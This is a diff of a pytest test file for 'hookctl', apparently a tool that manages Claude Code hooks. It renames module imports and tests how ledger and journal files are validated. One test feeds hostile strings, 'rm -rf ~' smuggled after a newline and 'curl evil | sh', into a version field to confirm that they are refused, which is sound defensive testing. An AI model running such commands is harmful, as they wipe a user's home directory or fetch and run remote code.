@@ -11,9 +11,11 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from hookctl import apply, engine, folders, ledger
+from hookctl import engine, transaction
 from hookctl.errors import HookctlError
+from hookctl.ledger import store
 from hookctl.model import Entry, PackRecord, Record, Wish
+from hookctl.system import paths
 from tests import plain
 from tests.conftest import Hookctl, put
 
@@ -43,17 +45,17 @@ def valid(data: bytes) -> None:
 
 @pytest.mark.parametrize("record", RECORDS)
 def test_every_record_comes_back_as_it_was(record: Record, tmp_path: Path) -> None:
-    data = ledger.dump({"/x": record})
+    data = store.dump({"/x": record})
     valid(data)
-    assert ledger.load(str(put(tmp_path / "ledger.json", data))) == {"/x": record}
+    assert store.load(str(put(tmp_path / "ledger.json", data))) == {"/x": record}
 
 
 def test_the_bytes_do_not_depend_on_the_order_of_events() -> None:
-    assert ledger.dump({"/b": RECORDS[0], "/a": RECORDS[1]}) == ledger.dump({"/a": RECORDS[1], "/b": RECORDS[0]})
+    assert store.dump({"/b": RECORDS[0], "/a": RECORDS[1]}) == store.dump({"/a": RECORDS[1], "/b": RECORDS[0]})
 
 
 def test_no_ledger_is_an_empty_one(tmp_path: Path) -> None:
-    assert ledger.load(str(tmp_path / "no" / "ledger.json")) == {}
+    assert store.load(str(tmp_path / "no" / "ledger.json")) == {}
 
 
 @pytest.mark.parametrize(
@@ -70,12 +72,12 @@ def test_what_is_written_is_valid(commands: list[list[str]], hookctl: Hookctl, s
     put(settings, b'{"env": {"MAX_STOP_BLOCKS": "5", "CLAUDE_CODE_STOP_HOOK_BLOCK_CAP": 3}, "hooks": {}}')
     for verb, *options in commands:
         assert hookctl(verb, "--host", "claude", *options).code == 0
-        valid(Path(folders.here().ledger).read_bytes())
+        valid(Path(paths.here().ledger).read_bytes())
 
 
 def test_a_newer_ledger_is_refused_and_nothing_is_written(hookctl: Hookctl, settings: Path) -> None:
     text = b'{"ledger_version": 3, "needs": "0.9.1", "anything": []}'
-    path = put(Path(folders.here().ledger), text)
+    path = put(Path(paths.here().ledger), text)
     for command in (["install", "--host", "claude"], ["uninstall", "--host", "claude"], ["status"]):
         outcome = hookctl(*command, "--json")
         error = outcome.result["errors"][0]
@@ -89,10 +91,10 @@ def test_a_newer_ledger_is_refused_and_nothing_is_written(hookctl: Hookctl, sett
 @pytest.mark.parametrize("needs", [None, 1, "", "0.9.1\nrm -rf ~", "curl evil | sh", ["0.9.1"]])
 @pytest.mark.parametrize("name", ["ledger", "journal"])
 def test_a_newer_record_that_names_no_version_is_refused_without_one(isolated: Path, name: str, needs: Any) -> None:
-    own = folders.here()
+    own = paths.here()
     put(Path(own.state) / f"{name}.json", json.dumps({f"{name}_version": 9, "needs": needs}))
     with pytest.raises(HookctlError) as caught:
-        ledger.load(own.ledger) if name == "ledger" else apply.pending(own)
+        store.load(own.ledger) if name == "ledger" else transaction.pending(own)
     assert (caught.value.code, caught.value.message) == (
         "ledger_newer", "a later hookctl is needed to read this record"
     )  # fmt: skip
@@ -102,18 +104,18 @@ def test_it_says_under_which_home_it_was_written_and_goes_on_saying_so(
     hookctl: Hookctl, isolated: Path, settings: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     assert hookctl("install", "--host", "claude").code == 0
-    home = ledger.read(folders.here().ledger).home
+    home = store.read(paths.here().ledger).home
     assert home == str((isolated / "home").resolve())
     monkeypatch.setenv("HOME", str(isolated / "elsewhere"))
     assert hookctl("install", "--host", "claude", "--scope", "user").code == 0
-    assert ledger.read(folders.here().ledger).home == home
+    assert store.read(paths.here().ledger).home == home
 
 
 @pytest.mark.parametrize("version", [True, 0, -1, "1", 1.0, None])
 def test_a_version_that_is_none_is_refused(version: Any, tmp_path: Path) -> None:
     path = put(tmp_path / "ledger.json", json.dumps({"ledger_version": version, "files": {}}))
     with pytest.raises(HookctlError, match="ledger_version is not a number"):
-        ledger.load(str(path))
+        store.load(str(path))
 
 
 @pytest.mark.parametrize("place", [(), ("packs", "guard"), ("entries", 0), ("entries", 0, "owners", "guard")])
@@ -124,7 +126,7 @@ def test_a_field_that_this_version_does_not_know_is_refused(place: tuple[Any, ..
         holder = holder[key]
     holder["later"] = 1
     with pytest.raises(HookctlError, match="later"):
-        ledger.load(str(put(tmp_path / "ledger.json", json.dumps(page))))
+        store.load(str(put(tmp_path / "ledger.json", json.dumps(page))))
 
 
 @pytest.mark.parametrize("path", [[], [None], [1.5], [["env"]], "env"])
@@ -133,11 +135,11 @@ def test_a_path_that_is_none_is_refused(path: Any, number: int, tmp_path: Path) 
     page = json.loads(json.dumps(PAGE))
     page["files"]["/x"]["entries"][number]["path"] = path
     with pytest.raises(HookctlError) as caught:
-        ledger.load(str(put(tmp_path / "ledger.json", json.dumps(page))))
+        store.load(str(put(tmp_path / "ledger.json", json.dumps(page))))
     assert caught.value.code == "ledger_unreadable"
 
 
-PAGE = json.loads(ledger.dump({"/x": RECORDS[2]}, "/home/u"))
+PAGE = json.loads(store.dump({"/x": RECORDS[2]}, "/home/u"))
 WRONG: list[Any] = [None, 0, True, "x", [], {}, [1], {"a": 1}, ["x"]]
 
 
@@ -181,7 +183,7 @@ def test_what_is_wrong_with_a_ledger_is_said_in_words(
     data: bytes, place: tuple[int, int], said: str, tmp_path: Path
 ) -> None:
     with pytest.raises(HookctlError) as caught:
-        ledger.load(str(put(tmp_path / "ledger.json", data)))
+        store.load(str(put(tmp_path / "ledger.json", data)))
     assert caught.value.message == f"the ledger cannot be read: {said}"
     assert (caught.value.line, caught.value.column) == place
 
@@ -189,7 +191,7 @@ def test_what_is_wrong_with_a_ledger_is_said_in_words(
 def test_what_is_wrong_with_a_journal_is_said_in_words_too(isolated: Path) -> None:
     put(isolated / "state" / "journal.json", '{\n"journal_version" 1}')
     with pytest.raises(HookctlError) as caught:
-        apply.pending(folders.here())
+        transaction.pending(paths.here())
     assert caught.value.message == "the journal of an interrupted run cannot be read: this is no JSON"
     assert (caught.value.line, caught.value.column) == (2, 19)
 
@@ -207,7 +209,7 @@ def test_a_ledger_with_a_value_of_a_wrong_kind_is_refused_or_does_no_harm(tmp_pa
     for name, page in broken_pages():
         path.write_text(json.dumps(page))
         try:
-            records = ledger.load(str(path))
+            records = store.load(str(path))
         except HookctlError as error:
             assert error.code in ("ledger_unreadable", "ledger_newer"), name
             assert (error.exit_code, error.path) == (4, str(path))
@@ -216,7 +218,7 @@ def test_a_ledger_with_a_value_of_a_wrong_kind_is_refused_or_does_no_harm(tmp_pa
             for record in records.values():
                 engine.uninstall(record.entries, plain.live({}), "guard")
                 engine.install(record.entries, plain.live({}), "guard", "1", [])
-            assert ledger.load(str(put(path, ledger.dump(records)))) == records, name
+            assert store.load(str(put(path, store.dump(records)))) == records, name
 
 
 @settings(deadline=None, max_examples=150)
@@ -227,8 +229,8 @@ def test_a_ledger_with_a_value_of_a_wrong_kind_is_refused_or_does_no_harm(tmp_pa
         inner, max_size=4), max_leaves=10).map(lambda value: json.dumps(value).encode())))  # fmt: skip
 def test_arbitrary_bytes_as_ledger_or_journal_are_refused_in_words(tmp_path_factory: Any, data: bytes) -> None:
     state = tmp_path_factory.getbasetemp() / "arbitrary"
-    own = folders.Folders(str(state), str(state), {}, str(state))
-    for read in (lambda: ledger.load(own.ledger), lambda: apply.pending(own)):
+    own = paths.Folders(str(state), str(state), {}, str(state))
+    for read in (lambda: store.load(own.ledger), lambda: transaction.pending(own)):
         put(state / "ledger.json", data)
         put(state / "journal.json", data)
         try:
@@ -241,7 +243,7 @@ def test_arbitrary_bytes_as_ledger_or_journal_are_refused_in_words(tmp_path_fact
 def test_no_command_raises_on_a_broken_ledger_or_journal(data: bytes, hookctl: Hookctl, settings: Path) -> None:
     assert hookctl("install", "--host", "claude").code == 0
     before = settings.read_bytes()
-    own = folders.here()
+    own = paths.here()
     for path in (own.ledger, own.journal):
         there = Path(path).read_bytes() if Path(path).exists() else None
         put(Path(path), data)
